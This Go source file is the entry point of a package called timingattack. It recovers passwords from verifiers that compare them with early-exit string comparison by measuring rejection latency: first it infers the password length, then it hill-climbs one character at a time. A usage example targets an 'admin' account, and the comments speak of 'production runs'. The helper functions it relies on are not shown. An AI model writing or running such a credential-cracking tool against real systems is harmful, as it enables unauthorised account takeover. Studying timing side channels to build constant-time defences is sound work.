// Package timingattack recovers a password from a verifier that compares it
// with an early-exit string comparison, using nothing but rejection latency.
//
// The attack runs in two phases against an Oracle:
//
//  1. InferLength tries one random candidate of every length below a bound.
//     Only a candidate of the right length reaches the character comparison,
//     so the true length is the slowest rejection.
//  2. Recover hill-climbs over the candidate one character at a time, keeping
//     a substitution whenever it makes rejection measurably slower, until the
//     oracle accepts the candidate.
//
// # Usage
//
//	result, err := timingattack.Crack(ctx, oracle, "admin", timingattack.DefaultMaxLength, 0,
//	    timingattack.WithProfile(timingattack.InProcess),
//	    timingattack.WithTimeBudget(10*time.Minute),
//	    timingattack.WithLogger(logger),
//	)
//	if err != nil {
//	    log.Fatal(err)
//	}
//	fmt.Println(result.Recover.Secret)
//
// # Measurement
//
// Every latency is the minimum over a number of trials (WithRepeats), each of
// which runs the check many times back to back (WithInnerCount). Noise only
// ever makes a trial slower, so the fastest trial is the best estimate of the
// true cost. Trials run sequentially on the calling goroutine, on the
// platform's cycle counter where one is available.
//
// # Liveness
//
// The search has no stopping rule besides success. A noisy channel
// can keep it oscillating, and an account unknown to the target rejects every
// candidate, so production runs should set WithMaxIterations or
// WithTimeBudget, or cancel the context.
package timingattack

import (
	"context"
	"fmt"
	"time"

	"github.com/google/uuid"
	"go.uber.org/zap"
)

// Crack infers the credential length of account (trying lengths below
// maxLen) and then recovers the credential. A positive length skips the
// inference phase.
func Crack(ctx context.Context, oracle Oracle, account string, maxLen, length int, opts ...Option) (*Result, error) {
	cfg, err := newConfig(opts)
	if err != nil {
		return nil, err
	}
	runID := uuid.NewString()
	cfg.logger = cfg.logger.With(zap.String("run_id", runID))
	t := target{oracle: oracle, account: account}

	start := time.Now()
	res := &Result{RunID: runID, Account: account, Length: length}

	if length <= 0 {
		if maxLen <= 0 {
			return nil, fmt.Errorf("%w: max length must be positive, got %d", ErrInvalidArgument, maxLen)
		}
		res.Length, res.Lengths, err = inferLength(ctx, cfg, t, maxLen)
		if err != nil {
			return nil, err
		}
	}

	if res.Length == 0 {
		// An empty credential is the only candidate of length zero.
		ok, err := t.check(ctx, "")
		if err != nil {
			return nil, err
		}
		res.Recover = RecoverResult{Found: ok}
		res.ElapsedTime = time.Since(start)
		if !ok {
			return res, fmt.Errorf("%w: inferred length 0 but the empty candidate was rejected", ErrInvalidArgument)
		}
		return res, nil
	}

	s, err := newSearch(cfg, t, res.Length)
	if err != nil {
		return nil, err
	}
	rec, err := s.run(ctx)
	if rec != nil {
		res.Recover = *rec
	}
	res.ElapsedTime = time.Since(start)
	return res, err
}
